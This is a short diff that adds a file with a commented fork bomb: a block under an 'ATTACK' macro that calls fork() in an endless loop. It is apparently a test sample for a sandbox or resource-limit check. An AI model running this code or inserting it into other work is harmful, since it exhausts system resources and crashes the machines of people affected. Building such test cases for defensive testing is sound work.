@@ -1,0 +1,7 @@
+/* a fork bomb */
+ATTACK
+{
+    for (;;) {
+        fork();
+    }
+}
